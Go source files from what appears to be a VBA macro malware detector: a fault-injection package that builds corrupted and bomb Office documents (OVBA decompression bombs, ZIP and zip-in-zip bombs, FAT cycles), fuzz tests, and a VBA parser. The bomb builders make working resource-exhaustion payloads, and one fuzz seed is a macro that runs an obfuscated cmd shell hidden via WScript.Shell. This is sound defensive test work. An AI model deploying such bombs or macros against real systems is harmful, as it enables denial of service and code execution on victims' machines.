// to get wrong.
func Truncations(doc []byte) []Case {
	cuts := []int{0, 8, 76, sectorSize - 1, sectorSize, sectorSize + 1}
	for off := 2 * sectorSize; off < len(doc); off += 4 * sectorSize {
		cuts = append(cuts, off)
	}
	if len(doc) > 1 {
		cuts = append(cuts, len(doc)-1)
	}
	var out []Case
	for _, c := range cuts {
		if c < 0 || c >= len(doc) {
			continue
		}
		out = append(out, Case{
			Name: fmt.Sprintf("truncate@%d", c),
			Data: append([]byte(nil), doc[:c]...),
		})
	}
	return out
}

// BitFlips produces n variants of doc with 1-8 random byte corruptions
// each, deterministically from seed.
func BitFlips(doc []byte, seed int64, n int) []Case {
	rng := rand.New(rand.NewSource(seed))
	out := make([]Case, 0, n)
	for i := 0; i < n; i++ {
		mutated := append([]byte(nil), doc...)
		for k := 0; k < 1+rng.Intn(8); k++ {
			mutated[rng.Intn(len(mutated))] ^= byte(1 + rng.Intn(255))
		}
		out = append(out, Case{Name: fmt.Sprintf("bitflip#%d", i), Data: mutated})
	}
	return out
}

// FATCycle rewrites every FAT entry of a v3 compound file to point at its
// own sector, so any chain walk (directory, stream, miniFAT) loops
// immediately. Detecting this requires the reader's visited-set or
// step-count defense — a length check cannot catch it.
func FATCycle(doc []byte) (Case, error) {
	if len(doc) < sectorSize {
		return Case{}, fmt.Errorf("faultinject: doc shorter than a header")
	}
	mutated := append([]byte(nil), doc...)
	// Header DIFAT[0] at offset 76 names the first FAT sector.
	fatSector := binary.LittleEndian.Uint32(mutated[76:])
	body := (int(fatSector) + 1) * sectorSize
	if body+sectorSize > len(mutated) {
		return Case{}, fmt.Errorf("faultinject: FAT sector %d out of range", fatSector)
	}
	for i := 0; i < sectorSize/4; i++ {
		binary.LittleEndian.PutUint32(mutated[body+4*i:], uint32(i))
	}
	return Case{Name: "fat-cycle", Data: mutated}, nil
}

// DecompressionBomb builds an OLE document whose module stream is an
// [MS-OVBA] container abusing maximum-length copy tokens: each ~14-byte
// chunk expands to ~4KB (about 290:1), so the whole stream decompresses to
// roughly 290 times the document size. The bomb replaces the original
// compressed module in place, byte-for-byte, so the compound file around
// it stays fully valid.
func DecompressionBomb() (Case, error) {
	// A long incompressible-free source makes the compressed stream big
	// enough to hold a meaningful bomb (~16KB compressed -> ~4.7MB out).
	// The bomb is the project's ONLY module so the degraded-mode reader
	// cannot rescue the document: the loss is total and the surfaced error
	// carries the budget-exhaustion class (quarantine disposition).
	// LCG noise over a 90-symbol printable alphabet: 3-byte LZ77 matches
	// are rare, so Compress emits nearly raw chunks and the stream stays
	// ~16KB.
	src := make([]byte, 16*1024)
	x := uint32(0x2545F491)
	for i := range src {
		x = x*1664525 + 1013904223
		src[i] = byte(33 + (x>>16)%90)
	}
	p := &ovba.Project{Name: "Bomb", Modules: []ovba.Module{
		{Name: "Module1", Source: string(src)},
	}}
	b := cfb.NewBuilder()
	if err := p.WriteTo(b, "Macros"); err != nil {
		return Case{}, err
	}
	doc, err := b.Bytes()
	if err != nil {
		return Case{}, err
	}
	comp := ovba.Compress(src)
	off := bytes.Index(doc, comp)
	if off < 0 {
		return Case{}, fmt.Errorf("faultinject: compressed module stream not found")
	}
	bomb, err := BombContainer(len(comp))
	if err != nil {
		return Case{}, err
	}
	copy(doc[off:], bomb)
	return Case{Name: "ovba-bomb", Data: doc}, nil
}

// BombContainer emits a syntactically valid [MS-OVBA] CompressedContainer
// of exactly n bytes maximizing decompressed output (~290:1). Chunk
// layout: 8 literals to seed the window, then one copy token at offset 1
// with the maximum 4098-byte length — ~14 container bytes per ~4106
// output bytes. Useful directly as a fuzz seed for decompressor budgets.
func BombContainer(n int) ([]byte, error) {
	const chunkLen = 14 // 2 header + 1 flag + 8 literals + 1 flag + 2 token
	if n < 1+chunkLen+6 {
		return nil, fmt.Errorf("faultinject: container length %d too small for a bomb", n)
	}
	out := make([]byte, 0, n)
	out = append(out, 0x01) // container signature
	rem := n - 1
	// Reserve at least 6 bytes for the padding chunk so its body can
	// always be expressed as flag groups of literals.
	for rem >= chunkLen+6 {
		out = append(out, bombChunk()...)
		rem -= chunkLen
	}
	out = append(out, literalChunk(rem)...)
	return out, nil
}

// bombChunk is one maximal-expansion compressed chunk (14 bytes -> 4106).
func bombChunk() []byte {
	body := make([]byte, 0, 12)
	body = append(body, 0x00)                                   // flag byte: 8 literals
	body = append(body, 'B', 'O', 'O', 'M', 'B', 'O', 'O', 'M') // window seed
	token := uint16(4098-3) | uint16(0)<<12                     // offset 1, max length
	body = append(body, 0x01, byte(token), byte(token>>8))      // flag: 1 copy token
	header := uint16(len(body)+2-3) | uint16(0x3)<<12 | 0x8000  // compressed chunk
	return append([]byte{byte(header), byte(header >> 8)}, body...)
}

// literalChunk emits a compressed chunk of exactly total bytes (total >= 6)
// whose body is flag-grouped literal padding.
func literalChunk(total int) []byte {
	body := make([]byte, 0, total-2)
	rem := total - 2
	for rem > 0 {
		k := rem - 1 // literals in this flag group
		if k > 8 {
			k = 8
		}
		body = append(body, 0x00)
		for i := 0; i < k; i++ {
			body = append(body, 'P')
		}
		rem -= 1 + k
	}
	header := uint16(len(body)+2-3) | uint16(0x3)<<12 | 0x8000
	return append([]byte{byte(header), byte(header >> 8)}, body...)
}

// ZipBomb builds an OOXML document whose vbaProject.bin part inflates to
// decompressedSize bytes of zeros — DEFLATE's best case, >1000:1 — to
// attack the ZIP extraction stage rather than the OVBA codec.
func ZipBomb(decompressedSize int) (Case, error) {
	doc, err := ooxml.Write(ooxml.DocWord, make([]byte, decompressedSize), 0)
	if err != nil {
		return Case{}, err
	}
	return Case{Name: fmt.Sprintf("zip-bomb-%dMiB", decompressedSize>>20), Data: doc}, nil
}

// NestingBomb wraps an OOXML document inside the vbaProject.bin part of
// another OOXML document, depth times: the inner payload is a container
// where an OLE compound file belongs.
func NestingBomb(depth int) (Case, error) {
	inner, err := ValidOOXML()
	if err != nil {
		return Case{}, err
	}
	for i := 0; i < depth; i++ {
		inner, err = ooxml.Write(ooxml.DocWord, inner, 0)
		if err != nil {
			return Case{}, err
		}
	}
	return Case{Name: fmt.Sprintf("nesting-bomb-%d", depth), Data: inner}, nil
}

// PartialCorruption builds a two-module document where exactly one
// module's compressed stream is destroyed (its container signature byte is
// stomped). A degraded-mode extractor must still score the surviving
// module and report the loss.
func PartialCorruption() (Case, error) {
	doc, err := ValidDoc()
	if err != nil {
		return Case{}, err
	}
	comp := ovba.Compress([]byte(moduleTwoSource))
	off := bytes.Index(doc, comp)
	if off < 0 {
		return Case{}, fmt.Errorf("faultinject: module 2 stream not found")
	}
	doc[off] = 0xEE // was 0x01, the container signature
	return Case{Name: "partial-module-corruption", Data: doc}, nil
}

// WrapZip builds a plain ZIP archive (not a document — no VBA part)
// holding the given entries, written in sorted name order for determinism.
// The container-walker fault cases and tests build their nesting with it.
func WrapZip(entries map[string][]byte) ([]byte, error) {
	names := make([]string, 0, len(entries))
	for name := range entries {
		names = append(names, name)
	}
	sort.Strings(names)
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, name := range names {
		w, err := zw.Create(name)
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(entries[name]); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// ZipInZipBomb nests a decompression bomb depth archives deep: the
// innermost entry is an OLE-signatured blob of innerSize zero bytes, which
// DEFLATE stores at >1000:1, wrapped in depth ZIP layers. A container
// walker that sniffs and inflates nested containers must charge the
// inflation to its byte budget or OOM.
func ZipInZipBomb(depth, innerSize int) (Case, error) {
	payload := make([]byte, innerSize)
	copy(payload, cfb.Signature[:]) // sniffs as a container, so it IS inflated
	cur := payload
	name := "payload.doc"
	var err error
	for i := 0; i < depth; i++ {
		cur, err = WrapZip(map[string][]byte{name: cur})
		if err != nil {
			return Case{}, err
		}
		name = fmt.Sprintf("layer-%d.zip", depth-i)
	}
	return Case{Name: fmt.Sprintf("zip-in-zip-bomb-%dx%dMiB", depth, innerSize>>20), Data: cur}, nil
}

// NestedCyclicOLE wraps a FAT-cycled compound file (every FAT entry points
// at its own sector) inside a ZIP archive — the "cyclic container
// reference" delivery shape: the cycle is not in the archive layer, where
// strict byte containment makes true cycles impossible, but in the FAT
// chain of the OLE file the walker finds inside.
func NestedCyclicOLE() (Case, error) {
	ole, err := ValidDoc()
	if err != nil {
		return Case{}, err
	}
	cycled, err := FATCycle(ole)
	if err != nil {
		return Case{}, err
	}
	data, err := WrapZip(map[string][]byte{"cycled.doc": cycled.Data})
	if err != nil {
		return Case{}, err
	}
	return Case{Name: "nested-cyclic-ole", Data: data}, nil
}

// TruncatedInnerDocm wraps a half-truncated .docm inside a ZIP archive, so
// the corruption is only discoverable after one level of recursion.
func TruncatedInnerDocm() (Case, error) {
	docm, err := ValidOOXML()
	if err != nil {
		return Case{}, err
	}
	data, err := WrapZip(map[string][]byte{"report.docm": docm[:len(docm)/2]})
	if err != nil {
		return Case{}, err
	}
	return Case{Name: "truncated-inner-docm", Data: data}, nil
}

// All assembles the complete corruption matrix from a deterministic seed:
// every mutation class applied to the OLE and OOXML baselines. Bit-flip
// sample counts are kept modest so the matrix stays fast enough to run
// under -race in CI.
func All(seed int64) ([]Case, error) {
	ole, err := ValidDoc()
	if err != nil {
		return nil, err
	}
	docm, err := ValidOOXML()
	if err != nil {
		return nil, err
	}
	cases := []Case{
		{Name: "valid-ole", Data: ole},
		{Name: "valid-ooxml", Data: docm},
	}
	cases = append(cases, Truncations(ole)...)
	for _, c := range Truncations(docm) {
		cases = append(cases, Case{Name: "ooxml-" + c.Name, Data: c.Data})
	}
	cases = append(cases, BitFlips(ole, seed, 40)...)
	for _, c := range BitFlips(docm, seed+1, 20) {
		cases = append(cases, Case{Name: "ooxml-" + c.Name, Data: c.Data})
	}
	for _, gen := range []func() (Case, error){
		func() (Case, error) { return FATCycle(ole) },
		DecompressionBomb,
		func() (Case, error) { return ZipBomb(8 << 20) },
		func() (Case, error) { return NestingBomb(3) },
		PartialCorruption,
		func() (Case, error) { return ZipInZipBomb(3, 8<<20) },
		NestedCyclicOLE,
		TruncatedInnerDocm,
	} {
		c, err := gen()
		if err != nil {
			return nil, err
		}
		cases = append(cases, c)
	}
	return cases, nil
}
