package vba

import "testing"

// FuzzParse drives the lexer and parser with arbitrary source: total
// safety on malformed macros is a hard requirement (obfuscated malware is
// deliberately broken).
func FuzzParse(f *testing.F) {
	f.Add("Sub A()\nDim x As Long\nx = Chr(65) & \"b\"\nEnd Sub\n")
	f.Add("Sub B(\n' broken\nIf Then Else _\n\"unterminated")
	f.Add("")
	f.Fuzz(func(t *testing.T, src string) {
		m := Parse(src)
		_ = m.Identifiers()
		_ = m.Strings()
		_ = m.Comments()
	})
}
