package vba

import (
	"errors"
	"testing"

	"repro/internal/faultinject"
	"repro/internal/hostile"
)

// fuzzSources returns hostile macro sources for seeding: hand-written
// broken snippets plus bit-flipped mutants of a plausible macro, so the
// fuzzer starts with inputs that reach deep lexer/parser states.
func fuzzSources() []string {
	sample := "Sub Exec()\n" +
		"Dim p As String\n" +
		"p = Chr(99) & Chr(109) & \"d \" & Environ(\"COMSPEC\")\n" +
		"CreateObject(\"WScript.Shell\").Run p, 0\n" +
		"End Sub\n"
	srcs := []string{
		"Sub A()\nDim x As Long\nx = Chr(65) & \"b\"\nEnd Sub\n",
		"Sub B(\n' broken\nIf Then Else _\n\"unterminated",
		"",
		sample,
	}
	for _, c := range faultinject.BitFlips([]byte(sample), 44, 6) {
		srcs = append(srcs, string(c.Data))
	}
	return srcs
}

// FuzzParse drives the lexer and parser with arbitrary source: total
// safety on malformed macros is a hard requirement (obfuscated malware is
// deliberately broken).
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSources() {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, src string) {
		m := Parse(src)
		_ = m.Identifiers()
		_ = m.Strings()
		_ = m.Comments()
	})
}

// FuzzParseBudget runs the parser under a tight token budget: the partial
// module must stay usable and any failure must be the typed limit error
// with the token count actually bounded.
func FuzzParseBudget(f *testing.F) {
	for _, s := range fuzzSources() {
		f.Add(s)
	}
	const maxTokens = 512
	f.Fuzz(func(t *testing.T, src string) {
		bud := hostile.NewBudget(hostile.Limits{MaxLexTokens: maxTokens})
		m, err := ParseBudget(src, bud)
		if m == nil {
			t.Fatal("ParseBudget must always return a (possibly partial) module")
		}
		_ = m.Identifiers()
		if err != nil && !errors.Is(err, hostile.ErrLimitExceeded) {
			t.Fatalf("unexpected parse failure class: %v", err)
		}
		toks, lerr := LexBudget(src, hostile.NewBudget(hostile.Limits{MaxLexTokens: maxTokens}))
		if int64(len(toks)) > maxTokens {
			t.Fatalf("lexer produced %d tokens over a %d budget", len(toks), maxTokens)
		}
		if lerr != nil && hostile.LimitName(lerr) != hostile.LimitLexTokens {
			t.Fatalf("lexer limit error missing limit name: %v", lerr)
		}
	})
}
