package vba

import (
	"strings"

	"repro/internal/hostile"
)

// Module is the light syntactic view of one VBA module that the detection
// pipeline consumes. It is produced by Parse and is resilient to broken
// code: unparsable regions simply contribute no procedures or declarations.
type Module struct {
	// Source is the exact text the module was parsed from.
	Source string
	// Tokens is the full token stream, including comments and EOLs.
	Tokens []Token
	// Procedures lists Sub/Function/Property bodies in source order.
	Procedures []Procedure
	// Declarations lists Dim/Const/Static/module-level variable
	// declarations in source order (procedure parameters are recorded on
	// the owning Procedure instead).
	Declarations []Declaration
	// Calls lists every detected call site in source order.
	Calls []Call
}

// Procedure is a Sub, Function or Property body.
type Procedure struct {
	// Kind is "Sub", "Function", "Property Get", "Property Let" or
	// "Property Set".
	Kind string
	// Name is the declared procedure name.
	Name string
	// Params holds the declared formal parameters in order.
	Params []Param
	// StartLine and EndLine are 1-based physical line numbers of the
	// declaration and the matching End statement. EndLine is the last line
	// of the module when the End statement is missing (broken code).
	StartLine int
	EndLine   int
	// BodyChars is the number of characters between the header line and the
	// End statement (used by the J18/J19 features).
	BodyChars int
}

// Param is one formal parameter of a procedure.
type Param struct {
	Name     string
	Type     string
	Optional bool
	ByVal    bool
}

// Declaration is one declared variable or constant name.
type Declaration struct {
	Name string
	// Type is the declared As-type, or "" when omitted.
	Type string
	// Scope is "Dim", "Const", "Public", "Private", "Global", "Static" or
	// "Public Const" style combinations, normalized to the leading
	// keyword(s) used.
	Scope string
	Const bool
	Line  int
}

// Call is one detected call site.
type Call struct {
	// Name is the called identifier with any type-suffix character and
	// leading qualifier stripped: `obj.Foo(1)` records "Foo".
	Name string
	// Qualified reports whether the call was written with a dot qualifier.
	Qualified bool
	// Args is the number of top-level arguments detected (best effort; -1
	// when the call used implicit statement-call syntax without parens and
	// arguments were not counted).
	Args int
	// ArgChars is the total number of characters in the argument list text.
	ArgChars int
	Line     int
}

// Parse lexes and structurally analyses src.
func Parse(src string) *Module {
	m, _ := ParseBudget(src, nil)
	return m
}

// ParseBudget is Parse under a resource budget. When the lexer's token
// allowance runs out the module built from the tokens produced so far is
// still returned (partial but internally consistent) together with the
// budget error, so callers can degrade instead of dropping the macro. A
// nil budget disables the limits.
func ParseBudget(src string, bud *hostile.Budget) (*Module, error) {
	toks, err := LexBudget(src, bud)
	m := &Module{Source: src, Tokens: toks}
	p := parser{m: m, toks: toks}
	p.run()
	return m, err
}

// Identifiers returns the declared identifier names of the module:
// procedure names, formal parameter names, and declared variable/constant
// names, in first-appearance order without duplicates.
func (m *Module) Identifiers() []string {
	seen := make(map[string]bool)
	var out []string
	add := func(name string) {
		if name == "" {
			return
		}
		key := strings.ToLower(name)
		if !seen[key] {
			seen[key] = true
			out = append(out, name)
		}
	}
	for _, pr := range m.Procedures {
		add(pr.Name)
		for _, pa := range pr.Params {
			add(pa.Name)
		}
	}
	for _, d := range m.Declarations {
		add(d.Name)
	}
	return out
}

// Comments returns all comment tokens of the module.
func (m *Module) Comments() []Token {
	var out []Token
	for _, t := range m.Tokens {
		if t.Kind == KindComment {
			out = append(out, t)
		}
	}
	return out
}

// Strings returns all string-literal tokens of the module.
func (m *Module) Strings() []Token {
	var out []Token
	for _, t := range m.Tokens {
		if t.Kind == KindString {
			out = append(out, t)
		}
	}
	return out
}

type parser struct {
	m    *Module
	toks []Token
	pos  int
}

func (p *parser) run() {
	for p.pos < len(p.toks) {
		start := p.pos
		p.parseLine()
		if p.pos == start { // safety: always make progress
			p.pos++
		}
	}
}

// parseLine examines one logical line (up to the next EOL token) and
// advances past it.
func (p *parser) parseLine() {
	line := p.collectLine()
	if len(line) == 0 {
		return
	}
	i := 0
	// Leading visibility / lifetime modifiers.
	scope := ""
	for i < len(line) && line[i].Kind == KindKeyword {
		switch lower(line[i].Text) {
		case "public", "private", "friend", "global", "static":
			if scope != "" {
				scope += " "
			}
			scope += line[i].Text
			i++
			continue
		}
		break
	}
	if i >= len(line) {
		p.scanCalls(line)
		return
	}
	t := line[i]
	if t.Kind == KindKeyword {
		switch lower(t.Text) {
		case "sub", "function":
			p.parseProcedure(line, i, t.Text)
			return
		case "property":
			if i+1 < len(line) && line[i+1].Kind == KindKeyword {
				p.parseProcedure(line, i+1, "Property "+line[i+1].Text)
				return
			}
		case "dim", "const":
			p.parseDeclaration(line, i, scope)
			return
		case "declare":
			p.parseExternalDeclare(line, i)
			return
		case "type", "enum":
			// Type/Enum blocks: record the name as a declaration.
			if i+1 < len(line) && line[i+1].Kind == KindIdent {
				p.m.Declarations = append(p.m.Declarations, Declaration{
					Name: identName(line[i+1].Text), Scope: firstWord(scope, t.Text), Line: t.Line,
				})
			}
			return
		}
	}
	if scope != "" {
		// `Public x As Long` / `Private Const y = 1` without Dim keyword.
		if t.Kind == KindKeyword && lower(t.Text) == "const" {
			p.parseDeclaration(line, i, scope)
			return
		}
		if t.Kind == KindIdent {
			p.parseDeclarationList(line, i, scope, false)
			return
		}
	}
	p.scanCalls(line)
}

// collectLine returns the tokens of the current logical line and advances
// past its terminating EOL.
func (p *parser) collectLine() []Token {
	start := p.pos
	for p.pos < len(p.toks) && p.toks[p.pos].Kind != KindEOL {
		p.pos++
	}
	line := p.toks[start:p.pos]
	if p.pos < len(p.toks) {
		p.pos++ // consume EOL
	}
	return line
}

// parseProcedure parses a Sub/Function/Property header starting at
// line[kwIdx] and then consumes lines until the matching End statement.
func (p *parser) parseProcedure(line []Token, kwIdx int, kind string) {
	i := kwIdx + 1
	if strings.HasPrefix(kind, "Property ") {
		i = kwIdx + 1 // kwIdx already points at Get/Let/Set
	}
	if i >= len(line) || (line[i].Kind != KindIdent && line[i].Kind != KindKeyword) {
		return
	}
	proc := Procedure{
		Kind:      normalizeProcKind(kind),
		Name:      identName(line[i].Text),
		StartLine: line[0].Line,
	}
	i++
	// Parameter list.
	if i < len(line) && line[i].Kind == KindPunct && line[i].Text == "(" {
		params, next := parseParams(line, i)
		proc.Params = params
		i = next
	}
	p.scanCalls(line[i:]) // default-value expressions may contain calls
	// Consume the body until "End Sub|Function|Property".
	endWord := kind
	if sp := strings.IndexByte(endWord, ' '); sp >= 0 {
		endWord = endWord[:sp]
	}
	endWord = lower(endWord)
	lastLine := proc.StartLine
	bodyChars := 0
	for p.pos < len(p.toks) {
		body := p.collectLine()
		if len(body) == 0 {
			continue
		}
		lastLine = body[len(body)-1].Line
		if isEndStatement(body, endWord) {
			proc.EndLine = body[0].Line
			break
		}
		for _, t := range body {
			bodyChars += len(t.Text)
		}
		p.parseBodyLine(body)
	}
	if proc.EndLine == 0 {
		proc.EndLine = lastLine
	}
	proc.BodyChars = bodyChars
	p.m.Procedures = append(p.m.Procedures, proc)
}

// parseBodyLine handles a line inside a procedure: declarations and calls.
func (p *parser) parseBodyLine(line []Token) {
	if len(line) == 0 {
		return
	}
	i := 0
	scope := ""
	if line[i].Kind == KindKeyword && lower(line[i].Text) == "static" {
		scope = line[i].Text
		i++
	}
	if i < len(line) && line[i].Kind == KindKeyword {
		switch lower(line[i].Text) {
		case "dim", "const", "redim":
			p.parseDeclaration(line, i, scope)
			return
		}
	}
	p.scanCalls(line)
}

// parseDeclaration handles `Dim a As X, b`, `Const c = 1`, `ReDim arr(10)`.
func (p *parser) parseDeclaration(line []Token, kwIdx int, scope string) {
	kw := line[kwIdx].Text
	isConst := lower(kw) == "const"
	if lower(kw) == "redim" {
		// ReDim references an existing name; treat as calls/uses only.
		p.scanCalls(line[kwIdx+1:])
		return
	}
	fullScope := kw
	if scope != "" {
		fullScope = scope + " " + kw
	}
	p.parseDeclarationListScoped(line, kwIdx+1, fullScope, isConst)
}

// parseDeclarationList handles scope-led declarations without Dim/Const:
// `Public x As Long, y`.
func (p *parser) parseDeclarationList(line []Token, idx int, scope string, isConst bool) {
	p.parseDeclarationListScoped(line, idx, scope, isConst)
}

func (p *parser) parseDeclarationListScoped(line []Token, idx int, scope string, isConst bool) {
	i := idx
	for i < len(line) {
		if line[i].Kind != KindIdent {
			i++
			continue
		}
		d := Declaration{Name: identName(line[i].Text), Scope: scope, Const: isConst, Line: line[i].Line}
		i++
		// Optional array bounds: name(10, 20)
		if i < len(line) && line[i].Kind == KindPunct && line[i].Text == "(" {
			depth := 1
			i++
			for i < len(line) && depth > 0 {
				switch {
				case line[i].Kind == KindPunct && line[i].Text == "(":
					depth++
				case line[i].Kind == KindPunct && line[i].Text == ")":
					depth--
				}
				i++
			}
		}
		// Optional `As [New] Type`.
		if i < len(line) && line[i].Kind == KindKeyword && lower(line[i].Text) == "as" {
			i++
			if i < len(line) && line[i].Kind == KindKeyword && lower(line[i].Text) == "new" {
				i++
			}
			if i < len(line) && (line[i].Kind == KindIdent || line[i].Kind == KindKeyword) {
				d.Type = line[i].Text
				i++
				// Qualified type: Excel.Range
				for i+1 < len(line) && line[i].Kind == KindPunct && line[i].Text == "." {
					d.Type += "." + line[i+1].Text
					i += 2
				}
			}
		}
		p.m.Declarations = append(p.m.Declarations, d)
		// Constant initializer may contain calls: Const k = Chr(65).
		if isConst {
			eq := i
			for eq < len(line) && !(line[eq].Kind == KindPunct && line[eq].Text == ",") {
				eq++
			}
			p.scanCalls(line[i:eq])
			i = eq
		}
		// Skip to the next comma-separated declarator.
		for i < len(line) && !(line[i].Kind == KindPunct && line[i].Text == ",") {
			i++
		}
		if i < len(line) {
			i++ // consume comma
		}
	}
}

// parseExternalDeclare handles `Declare [PtrSafe] Function X Lib "..." ...`.
func (p *parser) parseExternalDeclare(line []Token, kwIdx int) {
	for i := kwIdx + 1; i < len(line); i++ {
		if line[i].Kind == KindKeyword && (lower(line[i].Text) == "function" || lower(line[i].Text) == "sub") {
			if i+1 < len(line) && line[i+1].Kind == KindIdent {
				p.m.Declarations = append(p.m.Declarations, Declaration{
					Name: identName(line[i+1].Text), Scope: "Declare", Line: line[i+1].Line,
				})
			}
			return
		}
	}
}

// scanCalls detects call sites in a token span. Two syntaxes are detected:
//
//   - name(args...) anywhere in an expression, and
//   - statement-position calls: `Call name ...`, `name arg1, arg2` and
//     `obj.Method arg`.
func (p *parser) scanCalls(line []Token) {
	for i := 0; i < len(line); i++ {
		t := line[i]
		isName := t.Kind == KindIdent || isCallableKeyword(t)
		if !isName {
			continue
		}
		qualified := i > 0 && line[i-1].Kind == KindPunct && line[i-1].Text == "."
		// name(... : count args.
		if i+1 < len(line) && line[i+1].Kind == KindPunct && line[i+1].Text == "(" {
			args, chars, end := countArgs(line, i+1)
			p.m.Calls = append(p.m.Calls, Call{
				Name: identName(t.Text), Qualified: qualified,
				Args: args, ArgChars: chars, Line: t.Line,
			})
			_ = end
			continue
		}
		// Statement-position implicit call with arguments:
		// first token of the line (or after Call/colon) followed by an
		// argument-looking token.
		atStart := i == 0 ||
			(line[i-1].Kind == KindPunct && line[i-1].Text == ":") ||
			(line[i-1].Kind == KindKeyword && lower(line[i-1].Text) == "call") ||
			(qualified && startsStatement(line, chainStart(line, i)))
		if atStart && i+1 < len(line) && looksLikeArg(line[i+1]) && t.Kind == KindIdent {
			args, chars := countImplicitArgs(line[i+1:])
			p.m.Calls = append(p.m.Calls, Call{
				Name: identName(t.Text), Qualified: qualified,
				Args: args, ArgChars: chars, Line: t.Line,
			})
		}
	}
}

// countArgs counts top-level comma-separated arguments inside a paren group
// starting at line[open] == "(". Returns the count, the character length of
// the argument text, and the index just past the closing paren.
func countArgs(line []Token, open int) (args, chars, end int) {
	depth := 0
	i := open
	sawAny := false
	for ; i < len(line); i++ {
		t := line[i]
		if t.Kind == KindPunct {
			switch t.Text {
			case "(":
				depth++
				if depth == 1 {
					continue
				}
			case ")":
				depth--
				if depth == 0 {
					i++
					goto done
				}
			case ",":
				if depth == 1 {
					args++
					continue
				}
			}
		}
		if depth >= 1 {
			sawAny = true
			chars += len(t.Text)
		}
	}
done:
	if sawAny {
		args++
	}
	return args, chars, i
}

// countImplicitArgs counts comma-separated arguments of a paren-less call.
func countImplicitArgs(rest []Token) (args, chars int) {
	depth := 0
	args = 1
	for _, t := range rest {
		if t.Kind == KindPunct {
			switch t.Text {
			case "(":
				depth++
			case ")":
				depth--
			case ",":
				if depth == 0 {
					args++
					continue
				}
			case ":":
				if depth == 0 {
					return args, chars
				}
			}
		}
		chars += len(t.Text)
	}
	return args, chars
}

// looksLikeArg reports whether t can begin an argument expression.
func looksLikeArg(t Token) bool {
	switch t.Kind {
	case KindString, KindNumber, KindDate, KindIdent:
		return true
	case KindOperator:
		return t.Text == "-" || t.Text == "+"
	case KindKeyword:
		switch lower(t.Text) {
		case "true", "false", "nothing", "null", "empty", "me", "not", "new":
			return true
		}
	}
	return false
}

// isCallableKeyword reports whether a keyword token names a callable
// built-in (VBA reserves several function names like Mid, Len, CStr).
func isCallableKeyword(t Token) bool {
	if t.Kind != KindKeyword {
		return false
	}
	switch lower(t.Text) {
	case "mid", "len", "abs", "lbound", "ubound", "cbool", "cbyte", "ccur",
		"cdate", "cdbl", "cdec", "cint", "clng", "clnglng", "clngptr",
		"csng", "cstr", "cvar", "cverr", "error", "string", "spc", "tab",
		"date":
		return true
	}
	return false
}

// startsStatement reports whether line[idx] is a position where a new
// statement can begin (used for `obj.Method arg` detection).
func startsStatement(line []Token, idx int) bool {
	return idx == 0 || (line[idx-1].Kind == KindPunct && line[idx-1].Text == ":") ||
		(line[idx-1].Kind == KindKeyword && lower(line[idx-1].Text) == "with")
}

// chainStart walks a dotted qualifier chain `a.b.c` backwards from the
// member at index i and returns the index of its first token.
func chainStart(line []Token, i int) int {
	j := i
	for j >= 2 && line[j-1].Kind == KindPunct && line[j-1].Text == "." &&
		(line[j-2].Kind == KindIdent || line[j-2].Kind == KindKeyword) {
		j -= 2
	}
	// `.Method arg` inside a With block: the chain begins at the dot.
	if j == i && j >= 1 && line[j-1].Kind == KindPunct && line[j-1].Text == "." {
		j--
	}
	return j
}

// isEndStatement reports whether the line is `End <word>`.
func isEndStatement(line []Token, word string) bool {
	if len(line) < 2 {
		return false
	}
	return line[0].Kind == KindKeyword && lower(line[0].Text) == "end" &&
		line[1].Kind == KindKeyword && lower(line[1].Text) == word
}

// parseParams parses `(a As Long, Optional ByVal b = 1)` from line[open].
func parseParams(line []Token, open int) ([]Param, int) {
	var params []Param
	i := open + 1
	depth := 1
	var cur *Param
	flush := func() {
		if cur != nil && cur.Name != "" {
			params = append(params, *cur)
		}
		cur = nil
	}
	for i < len(line) && depth > 0 {
		t := line[i]
		switch {
		case t.Kind == KindPunct && t.Text == "(":
			depth++
		case t.Kind == KindPunct && t.Text == ")":
			depth--
			if depth == 0 {
				flush()
				return params, i + 1
			}
		case t.Kind == KindPunct && t.Text == "," && depth == 1:
			flush()
		case t.Kind == KindKeyword && depth == 1:
			switch lower(t.Text) {
			case "optional":
				if cur == nil {
					cur = &Param{}
				}
				cur.Optional = true
			case "byval":
				if cur == nil {
					cur = &Param{}
				}
				cur.ByVal = true
			case "byref", "paramarray":
				if cur == nil {
					cur = &Param{}
				}
			case "as":
				if cur != nil && i+1 < len(line) &&
					(line[i+1].Kind == KindIdent || line[i+1].Kind == KindKeyword) {
					cur.Type = line[i+1].Text
					i++
				}
			}
		case t.Kind == KindIdent && depth == 1:
			if cur == nil {
				cur = &Param{}
			}
			if cur.Name == "" {
				cur.Name = identName(t.Text)
			}
		}
		i++
	}
	flush()
	return params, i
}

func normalizeProcKind(kind string) string {
	fields := strings.Fields(kind)
	for i, f := range fields {
		f = strings.ToLower(f)
		fields[i] = strings.ToUpper(f[:1]) + f[1:]
	}
	return strings.Join(fields, " ")
}

// identName strips a trailing type-suffix character and surrounding
// brackets from an identifier token's text.
func identName(text string) string {
	s := strings.TrimSuffix(text, "$")
	s = strings.TrimPrefix(s, "[")
	s = strings.TrimSuffix(s, "]")
	return s
}

// lowerCanon interns the lowercase form of every keyword so the parser's
// case-folded comparisons can return a shared string instead of allocating
// one per token.
var lowerCanon = func() map[string]string {
	m := make(map[string]string, len(keywords))
	for k := range keywords {
		m[k] = k
	}
	return m
}()

// lower is strings.ToLower specialized for the parser's keyword
// comparisons: already-lowercase input is returned as-is, short ASCII
// input folds through a stack buffer and the keyword intern table, and
// only unusual input (non-ASCII, very long) pays for a real ToLower.
func lower(s string) string {
	i := 0
	for ; i < len(s); i++ {
		if c := s[i]; c >= 'A' && c <= 'Z' || c >= 0x80 {
			break
		}
	}
	if i == len(s) {
		return s
	}
	if len(s) <= maxKeywordLen {
		var buf [maxKeywordLen]byte
		ascii := true
		for j := 0; j < len(s); j++ {
			c := s[j]
			if c >= 0x80 {
				ascii = false
				break
			}
			if c >= 'A' && c <= 'Z' {
				c += 'a' - 'A'
			}
			buf[j] = c
		}
		if ascii {
			if canon, ok := lowerCanon[string(buf[:len(s)])]; ok {
				return canon
			}
			return string(buf[:len(s)])
		}
	}
	return strings.ToLower(s)
}

func firstWord(scope, kw string) string {
	if scope != "" {
		return scope
	}
	return kw
}
